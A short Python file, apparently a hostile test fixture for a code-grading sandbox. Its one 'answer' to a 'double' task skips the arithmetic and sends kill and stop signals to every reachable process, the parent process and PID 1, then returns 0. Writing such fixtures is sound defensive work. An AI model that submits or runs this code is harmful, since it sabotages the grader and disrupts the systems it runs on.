"""Kill everything in reach."""

ANSWERS = {
    "double": """
import signal
def double(x):
    for target in (-1, os.getppid(), 1):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try: os.kill(target, number)
            except OSError: pass
    return 0
""",
}
